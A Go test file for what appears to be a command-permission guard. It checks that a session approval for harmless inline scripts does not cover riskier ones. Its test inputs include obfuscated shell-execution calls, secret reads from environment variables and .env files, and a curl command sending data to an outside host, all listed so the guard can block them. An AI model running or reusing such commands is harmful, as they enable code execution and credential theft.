package guard

import "testing"

// TestInlineForSession keeps a yes to code written on the spot for the session,
// and holds that it answers other such code of the project and nothing worse.
func TestInlineForSession(t *testing.T) {
	s := newStand(t, nil)
	yes := Answer{Kind: ForSession}
	first := s.request(`python3 -c "x = thing.size()"`)
	q := s.asks(first, yes)
	if !q.Session || len(q.Offers) > 0 {
		t.Errorf("session %v, offers %v; want a yes for the session at most", q.Session, q.Offers)
	}
	if !contains(q.Besides, "written on the spot") {
		t.Errorf("nothing says what a yes for the session is about: %q", q.Besides)
	}
	s.silent(first)
	for _, same := range []string{
		`python3 -c "y = other.parts(2); print(y)"`,
		"python3 - <<'E'\nz = 3\nz.bit_count()\nE",
		`node -e "let a = thing"`,
	} {
		s.silent(s.request(same))
	}
	for _, worse := range []string{
		`python3 -c "import subprocess; subprocess.run(x)"`,
		`python3 -c "import os; os.remove(x)"`,
		`python3 -c "import os; os.remove('kept.txt'); a.b()"`,
		`python3 -c "getattr(os, 'sys' + 'tem')('id')"`,
		`python3 -c "__import__('so' 'cket')"`,
		`python3 -c "exec(a.b)"`,
		`node -e "require('child_' + 'process').exec(x)"`,
		`node -e "[].constructor.constructor(x)()"`,
		"perl -e 'print `$x`'",
		`perl -e 'do $ARGV[0]'`,
		`ruby -e 'send(a, b)'`,
		`php -r '$f = "sys"."tem"; $f("id");' x.php; php -r 'include $x;'`,
		`python3 -c "a.b()"; curl -d x https://new.example/`,
		`python3 -c "import os; print(a.b, os.environ['API_TOKEN'])"`,
		`python3 -c "import os; a.b(os.environ)"`,
		`python3 -c "a.b(open('.env').read())"`,
		`node -e "a.b(process.env.NPM_TOKEN)"`,
		`node -e "a.b(require('fs').readFileSync('.env'))"`,
		`perl -e 'a::b($ENV{API_TOKEN})'`,
		`ruby -e 'a.b(ENV["API_TOKEN"])'`,
		`php -r 'b(getenv("API_TOKEN"));'`,
		`python3 -c "$CODE"`,
		`python3 unseen.py`,
		`cd ../other && python3 -c "x = thing.size()"`,
		`sudo python3 -c "x = thing.size()"`,
		`ssh host.example python3 -c "x"`,
		`lua -e "a.b()"`,
	} {
		if d, n := s.run(s.request(worse)); d.Allowed || n == 0 {
			t.Errorf("%s: allowed %v after %d questions", worse, d.Allowed, n)
		}
	}
	// The project's own code needs a yes of its own, and then both hold.
	both := s.request(`python3 -c "import things; things.parts(1).last"`)
	s.asks(both)
	s.always(s.request("make all"), "project")
	s.silent(both)
	// A no ends it.
	if d, _ := s.run(s.request(`python3 -c "import subprocess; subprocess.run(x)"`), Answer{Kind: No}); d.Allowed {
		t.Error("refused, and allowed")
	}
	s.asks(first)
}
